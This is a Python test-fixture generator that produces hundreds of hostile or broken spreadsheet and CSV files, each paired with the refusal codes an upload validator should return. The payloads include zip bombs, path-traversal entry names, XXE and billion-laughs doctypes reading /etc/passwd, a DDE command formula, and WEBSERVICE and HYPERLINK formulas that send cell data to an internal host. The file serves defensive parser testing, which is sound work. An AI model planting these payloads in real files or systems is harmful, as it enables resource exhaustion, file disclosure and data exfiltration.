"""Five hundred and more files that nobody should be able to harm us with: hostile, broken, or merely not a roster.

Each comes with the ending of its name and the codes of refusal that may answer it; None is any refusal. All are made
here from a seed; nothing is kept on disk.
"""

import io
import struct
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass
from random import Random  # seeded, so that a failure can be looked at again

import xlsxwriter

HEADINGS = ("A-Number", "Nombre completo", "Fecha de nacimiento", "Nacionalidad")
ROW = ("A200000001", "Ana Paz Mejía", "17/05/1990", "HO")
ROWS = [HEADINGS, *((f"A20000{n:04}", f"Ana Paz Mejía {'B' * (n % 5)}", "17/05/1990", "HO") for n in range(40))]
OLE = bytes.fromhex("D0CF11E0A1B11AE1")
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
TYPES = "application/vnd.openxmlformats-officedocument.spreadsheetml"


@dataclass(frozen=True)
class Hostile:
    name: str
    suffix: str
    content: bytes
    answers: tuple[str, ...] | None


def workbook(rows: list[tuple[str, ...]] = ROWS, formula: str = "") -> bytes:
    kept = io.BytesIO()
    with xlsxwriter.Workbook(kept, {"in_memory": True}) as book:
        sheet = book.add_worksheet()
        for number, row in enumerate(rows):
            for place, cell in enumerate(row):
                sheet.write_string(number, place, cell)
        if formula:
            sheet.write_formula(len(rows), 1, formula, None, "Ana")
    return kept.getvalue()


def parts(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def packed(members: dict[str, bytes], more: list[tuple[str, bytes]] = ()) -> bytes:  # type: ignore[assignment]
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in [*members.items(), *more]:
            archive.writestr(name, content)
    return kept.getvalue()


GOOD = workbook()
PARTS = parts(GOOD)
SHEET = "xl/worksheets/sheet1.xml"


def with_part(name: str, content: bytes = b"x") -> bytes:
    return packed(PARTS, [(name, content)])


def csv_text(rows: list[tuple[str, ...]] = ROWS, delimiter: str = ",") -> str:
    return "".join(delimiter.join(row) + "\r\n" for row in rows)


def every_file() -> list[Hostile]:
    rng = Random(12)
    found = []
    for maker in MAKERS:
        for number, (suffix, content, answers) in enumerate(maker(rng)):
            found.append(Hostile(f"{maker.__name__}-{number}", suffix, content, answers))
    return found


Made = Iterator[tuple[str, bytes, tuple[str, ...] | None]]


def empty(rng: Random) -> Made:
    for suffix in ("xlsx", "xls", "csv"):
        for content in (b"", b"\r\n", b" " * 50, b"\x00" * 700, b"\t\n" * rng.randrange(1, 90)):
            yield suffix, content, ("file_empty",)


def headings_only(rng: Random) -> Made:
    for count in range(1, 5):
        some = [("A-Number", *HEADINGS[1:count])]
        yield "xlsx", workbook(some), ("no_rows",)
        yield "csv", csv_text(some).encode(), ("no_rows",)
        yield "csv", csv_text(some, delimiter=";").encode("utf-16"), ("no_rows",)
    yield "xlsx", workbook([]), ("no_rows", "no_sheet")


def no_headings(rng: Random) -> Made:
    for _ in range(10):
        words = [tuple("".join(rng.choices("bcdfgxz", k=6)) for _ in range(4)) for _ in range(30)]
        yield "xlsx", workbook(words), ("no_headings",)
        yield "csv", csv_text(words).encode(), ("no_headings",)


def cut_short(rng: Random) -> Made:
    for _ in range(25):
        yield "xlsx", GOOD[: rng.randrange(40, len(GOOD) - 30)], ("archive_broken",)


def flipped(rng: Random) -> Made:
    with zipfile.ZipFile(io.BytesIO(GOOD)) as archive:
        part = archive.getinfo(SHEET)
    start = part.header_offset + 30 + len(SHEET)
    for _ in range(25):
        broken = bytearray(GOOD)
        broken[rng.randrange(start + 4, start + part.compress_size - 4)] ^= 1 << rng.randrange(8)
        yield "xlsx", bytes(broken), ("archive_broken",)
    directory = GOOD.rindex(b"PK\x05\x06")
    for _ in range(10):
        broken = bytearray(GOOD)
        broken[directory + rng.randrange(10, 20)] ^= 0xFF
        yield "xlsx", bytes(broken), None


def bombs(rng: Random) -> Made:
    for megabytes in (6, 20, 60, 120, 200, 330):
        yield "xlsx", with_part("xl/media/a.xml", b"\x00" * (megabytes << 20)), ("archive_would_swell",)
    for _ in range(6):
        filler = f'<c t="inlineStr"><is><t>{"A" * 900}</t></is></c>'.encode() * rng.randrange(9_000, 30_000)
        swollen = PARTS[SHEET].replace(b"</sheetData>", b'<row r="99">' + filler + b"</row></sheetData>")
        yield "xlsx", packed(PARTS | {SHEET: swollen}), ("archive_would_swell",)
    for size in (0, 1, 100, 5_000):
        yield "xlsx", lying(size), ("archive_broken", "could_not_be_read", "archive_would_swell")
    for copies in (50, 150, 300):
        yield "xlsx", shared(copies), ("archive_would_swell", "archive_broken", "part_out_of_place")


def lying(size: int) -> bytes:
    """The directory says that the sheet is small; it is not."""
    content = bytearray(packed(PARTS | {SHEET: PARTS[SHEET] + b" " * (60 << 20)}))
    place = content.rindex(b"PK\x01\x02")
    while content[place + 46 : place + 46 + len(SHEET)] != SHEET.encode():
        place = content.rindex(b"PK\x01\x02", 0, place)
    content[place + 24 : place + 28] = struct.pack("<I", size)
    return bytes(content)


def shared(copies: int) -> bytes:
    """Many names for one packed part: a bomb without nesting."""
    noise = Random(5).randbytes(40_000)
    content = packed(PARTS, [("xl/media/n0.png", noise)])
    end = content.rindex(b"PK\x05\x06")
    start = struct.unpack("<I", content[end + 16 : end + 20])[0]
    entries = content[start:end]
    last = entries[entries.rindex(b"PK\x01\x02") :]
    grown = entries + b"".join(
        last.replace(b"n0.png", f"{n:02x}.png".encode()[-6:].rjust(6, b"x")) for n in range(copies)
    )
    count = len(PARTS) + 1 + copies
    closing = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, count, count, len(grown), start, 0)
    return content[:start] + grown + closing


def many_parts(rng: Random) -> Made:
    for count in (401, 600, 1_500, 5_000, 20_000):
        yield "xlsx", packed(PARTS, [(f"xl/media/{n}", b"") for n in range(count)]), ("too_many_parts",)


def out_of_place(rng: Random) -> Made:
    for name in (
        "../etc/passwd", "..\\..\\windows\\win.ini", "/etc/cron.d/x", "xl/../../x", "C:\\x", "xl/worksheets/../../../x",
        "a:b", "\\\\host\\share", "//host/x", "xl/..", "../xl/workbook.xml", "/xl/workbook.xml",
    ):  # fmt: skip
        yield "xlsx", with_part(name), ("part_out_of_place",)
    for name in ("XL/WORKBOOK.XML", "xl/Worksheets/Sheet1.xml", "xl\\workbook.xml", "XL/sharedstrings.xml"):
        yield "xlsx", with_part(name), ("part_out_of_place",)


def macros(rng: Random) -> Made:
    for name in (
        "xl/vbaProject.bin", "xl/vbaData.xml", "xl/vbaProjectSignature.bin", "xl/macrosheets/sheet1.xml",
        "xl/activeX/activeX1.bin", "xl/activeX/activeX1.xml", "VBAPROJECT.BIN", "xl/macroSheets/intl.xml",
    ):  # fmt: skip
        yield "xlsx", with_part(name), ("holds_macros",)
    for suffix in ("xlsm", "XLSM", ".xlsm", "xltm", "xlam"):
        yield suffix, GOOD, ("holds_macros",)
    types = PARTS["[Content_Types].xml"].replace(b"sheet.main+xml", b"sheet.macroEnabled.main+xml")
    yield "xlsx", packed(PARTS | {"[Content_Types].xml": types}), ("holds_macros",)
    for stream in ("_VBA_PROJECT", "_VBA_PROJECT_CUR", "Macros"):
        yield "xls", compound("Workbook", stream), ("holds_macros",)


def compound(*streams: str) -> bytes:
    """The look of an old file: the magic and the names of its streams; no more."""
    return OLE + b"\x00" * 504 + b"".join(name.encode("utf-16-le") + b"\x00" * 90 for name in streams) + b"\x01" * 900


def outside(rng: Random) -> Made:
    for name in (
        "xl/externalLinks/externalLink1.xml", "xl/externalLinks/_rels/externalLink1.xml.rels", "xl/embeddings/ole.bin",
        "xl/embeddings/Book.xlsx", "xl/connections.xml", "xl/queryTables/queryTable1.xml", "XL/EXTERNALLINKS/a.xml",
    ):  # fmt: skip
        yield "xlsx", with_part(name), ("holds_outside_links",)
    for target in ("file:///etc/passwd", "http://10.0.0.1/x", "\\\\10.0.0.1\\share\\x.xlsx", "ftp://10.0.0.1/x"):
        rel = f'<Relationship Id="r9" Type="{REL}/externalLinkPath" Target="{target}" TargetMode="External"/>'
        rels = PARTS["xl/_rels/workbook.xml.rels"].replace(b"</Relationships>", rel.encode() + b"</Relationships>")
        yield "xlsx", packed(PARTS | {"xl/_rels/workbook.xml.rels": rels}), ("holds_outside_links",)
    for stream in ("\x01Ole10Native", "MBD00012345"):
        yield "xls", compound("Workbook", stream), ("holds_outside_links",)


def formulas(rng: Random) -> Made:
    for formula in (
        "=1+1", '=HYPERLINK("http://10.0.0.1/"&A2,"Ana")', '=WEBSERVICE("http://10.0.0.1/"&B2)', "=A2", "=NOW()",
        "=IMPORTXML(A1,B1)", "=cmd|' /C calc'!A0", "=SUM(A:A)", "=INDIRECT(A2)", "=RAND()", '=CONCATENATE("A","B")',
        "=DDE(1,2,3)", "=B2&C2", '=IF(TODAY()>43740,"Ana","Eva")', "={1,2}",
    ):  # fmt: skip
        yield "xlsx", workbook(formula=formula), ("holds_formulas",)
    for tag in (b"<f/>", b"<f>A1</f>", b'<f t="shared" si="0"/>', b"<x:f>A1</x:f>", b"<f\n>A1</f>"):
        sheet = PARTS[SHEET].replace(b"<v>", tag + b"<v>", 1)
        yield "xlsx", packed(PARTS | {SHEET: sheet}), ("holds_formulas",)


def declarations(rng: Random) -> Made:
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    for doctype in (
        '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>', '<!DOCTYPE x SYSTEM "http://10.0.0.1/x.dtd">',
        f'<!DOCTYPE x [<!ENTITY l0 "lol">{laughs}]>', '<!doctype x [<!ENTITY % p SYSTEM "file:///dev/random"> %p;]>',
        '<! DOCTYPE x []>', '<!DOCTYPE x [<!ENTITY e "Ana">]>',
    ):  # fmt: skip
        for name in (SHEET, "xl/workbook.xml", "xl/sharedStrings.xml", "xl/styles.xml", "docProps/app.xml"):
            head, _, rest = PARTS[name].partition(b"?>")
            yield "xlsx", packed(PARTS | {name: head + b"?>" + doctype.encode() + rest}), ("holds_declarations",)
    late = PARTS[SHEET].replace(b"<sheetData>", b" " * 300_000 + b"<!DOCTYPE x []><sheetData>")
    yield "xlsx", packed(PARTS | {SHEET: late}), ("holds_declarations",)


def wide_markup(rng: Random) -> Made:
    for name in (SHEET, "xl/workbook.xml", "xl/sharedStrings.xml", "xl/styles.xml"):
        for encoding in ("utf-16", "utf-16-le", "utf-16-be"):
            yield "xlsx", packed(PARTS | {name: PARTS[name].decode().encode(encoding)}), ("unreadable_text",)


def locked(rng: Random) -> Made:
    for suffix in ("xls", "xlsx"):
        for streams in (("EncryptedPackage",), ("EncryptionInfo", "EncryptedPackage"), ("Workbook", "EncryptionInfo")):
            yield suffix, compound(*streams), ("password_protected",)
    for place in (0, 1, 3):
        flagged = bytearray(GOOD)
        at = -1
        for _ in range(place + 1):
            at = flagged.index(b"PK\x01\x02", at + 1)
        flagged[at + 8] |= 1
        yield "xlsx", bytes(flagged), ("password_protected",)


def other_kinds(rng: Random) -> Made:
    for start in (
        b"%PDF-1.7\n", b"\x89PNG\r\n\x1a\n", b"\xff\xd8\xff\xe0", b"GIF89a", b"\x1f\x8b\x08", b"BZh9",
        b"7z\xbc\xaf'\x1c", b"Rar!\x1a\x07", b"MZ\x90", b"\x7fELF", b"SQLite format 3\x00", b"{\\rtf1",
        b"<html><table>", b"<!DOCTYPE html>", b"<?xml version='1.0'?><Workbook/>", b"\xef\xbb\xbf<table>",
        b"RIFF....WEBP", b"MIME-Version: 1.0",
    ):  # fmt: skip
        for suffix in ("xlsx", "xls", "csv"):
            yield suffix, start + rng.randbytes(400), ("not_a_spreadsheet",)
    yield "xls", compound("WordDocument"), ("not_a_spreadsheet",)
    for name in ("word/document.xml", "ppt/presentation.xml", "content.xml", "xl/workbook.bin", "a.txt"):
        yield "xlsx", packed({name: b"<x/>"}), ("not_a_spreadsheet",)


def wrong_ending(rng: Random) -> Made:
    for suffix in ("xlsx", "xls"):
        yield suffix, csv_text().encode(), ("not_what_its_name_says",)
        yield suffix, csv_text(delimiter=";").encode("cp1252"), ("not_what_its_name_says",)
    for suffix in ("csv", "xls", "txt", "tsv"):
        yield suffix, GOOD, ("not_what_its_name_says",)
    for suffix in ("", "pdf", "exe", "docx", "ods", "xlsb", "html", "xlsx.exe", "../xlsx", "x" * 300):
        yield suffix, GOOD, ("not_a_spreadsheet",)
    for suffix in ("csv", "xlsx"):
        yield suffix, compound("Workbook"), ("not_what_its_name_says",)


def huge(rng: Random) -> Made:
    far = '<row r="{row}"><c r="{cell}" t="inlineStr"><is><t>x</t></is></c></row></sheetData>'
    big = ("needed_too_much", "too_many_rows", "too_many_columns", "took_too_long", "could_not_be_read")
    for row, cell in (
        (1048576, "XFD1048576"), (1048576, "A1048576"), (50, "XFD50"), (400000, "ZZ400000"), (150000, "B150000"),
        (1048576, "AAA1048576"), (200, "DZ200"), (999999, "M999999"), (4294967295, "XFD4294967295"), (7, "ZZZZZZZ7"),
    ):  # fmt: skip
        sheet = PARTS[SHEET].replace(b"</sheetData>", far.format(row=row, cell=cell).encode())
        yield "xlsx", packed(PARTS | {SHEET: sheet}), big
    wide = [tuple(f"{heading}{n}" for n in range(40) for heading in HEADINGS)] * 3
    yield "xlsx", workbook(wide), ("too_many_columns",)
    yield "csv", csv_text(wide).encode(), ("too_many_columns",)
    yield "csv", csv_text([HEADINGS, *[("1", "A", "", "")] * 100_100]).encode(), ("too_many_rows",)
    yield "csv", ("," * 500_000 + "\n").encode(), ("too_many_columns", "no_rows")
    yield "csv", ("\n" * 3_000_000 + csv_text()).encode(), ("too_many_rows",)
    yield "csv", b"a" * 24_000_001, ("file_too_big",)
    for length in (1_001, 3_000, 30_000):
        yield "xlsx", workbook([*ROWS, ("A1", "B" * length, "", "")]), ("cell_too_long",)
        yield "csv", csv_text([*ROWS, ("A1", "B" * length, "", "")]).encode(), ("cell_too_long", "quotes_broken")


def broken_text(rng: Random) -> Made:
    text = csv_text()
    for _ in range(8):
        place = rng.randrange(len(text) // 2, len(text))
        yield "csv", (text[:place] + "\x00" + text[place:]).encode(), ("holds_nulls",)
        half = text[:place].encode() + b"\xed" + bytes([rng.randrange(0xA0, 0xC0)]) + b"\x80" + text[place:].encode()
        yield "csv", half, ("unreadable_text",)
        wide = text[:place].encode("utf-16-le") + b"\x00\xd8" + text[place:].encode("utf-16-le")
        yield "csv", b"\xff\xfe" + wide, ("unreadable_text",)
        yield "csv", text[:place].encode() + "\nÑuñez".encode("cp1252") + text[place:].encode(), ("mixed_encodings",)
        western = text.encode("cp1252")
        yield "csv", western[:place] + b"\x81\x8d" + western[place:], ("unreadable_text", "mixed_encodings")
        yield "csv", text.encode("utf-16")[: 2 * place + 1], ("unreadable_text",)


def open_quotes(rng: Random) -> Made:
    for number in range(10):
        lines = csv_text().splitlines()
        lines[2 + number] = lines[2 + number].replace(",", ',"', 1)
        lines[5 + number] += ",extra"
        yield "csv", "\n".join(lines).encode(), ("quotes_broken", "cell_too_long")
        nested = '"' * (2 * number + 1)
        yield "csv", (csv_text() + f"A1,{nested}Ana{nested[1:]},x\nA2,B").encode(), ("quotes_broken", "cell_too_long")


def broken_insides(rng: Random) -> Made:
    for name in (SHEET, "xl/workbook.xml", "xl/sharedStrings.xml"):
        for _ in range(6):
            cut = rng.randrange(len(PARTS[name]) // 3, len(PARTS[name]) - 12)
            yield "xlsx", packed(PARTS | {name: PARTS[name][:cut]}), None
    for name in (SHEET, "xl/workbook.xml", "xl/_rels/workbook.xml.rels", "xl/sharedStrings.xml"):
        yield "xlsx", packed({kept: content for kept, content in PARTS.items() if kept != name}), None
        yield "xlsx", packed(PARTS | {name: b""}), None
        yield "xlsx", packed(PARTS | {name: rng.randbytes(3_000)}), None
    for depth in (1_000, 60_000):
        nested = b"<a>" * depth + b"</a>" * depth
        yield "xlsx", packed(PARTS | {"xl/workbook.xml": nested}), ("no_sheet", "could_not_be_read")
    hidden = PARTS["xl/workbook.xml"].replace(b"<sheet ", b'<sheet state="hidden" ')
    yield "xlsx", packed(PARTS | {"xl/workbook.xml": hidden}), ("no_sheet",)
    index = PARTS[SHEET].replace(b"<v>5</v>", b"<v>99999999</v>")
    yield "xlsx", packed(PARTS | {SHEET: index}), None


def noise(rng: Random) -> Made:
    for suffix in ("xlsx", "xls", "csv"):
        for _ in range(10):
            yield suffix, rng.randbytes(rng.randrange(300, 9_000)), None
    for _ in range(15):
        yield "xls", compound("Workbook", "x") + rng.randbytes(6_000), ("could_not_be_read",)
        yield "xlsx", b"PK\x03\x04" + rng.randbytes(3_000), ("archive_broken",)


MAKERS = (
    empty, headings_only, no_headings, cut_short, flipped, bombs, many_parts, out_of_place, macros, outside, formulas,
    declarations, wide_markup, locked, other_kinds, wrong_ending, huge, broken_text, open_quotes, broken_insides, noise,
)  # fmt: skip
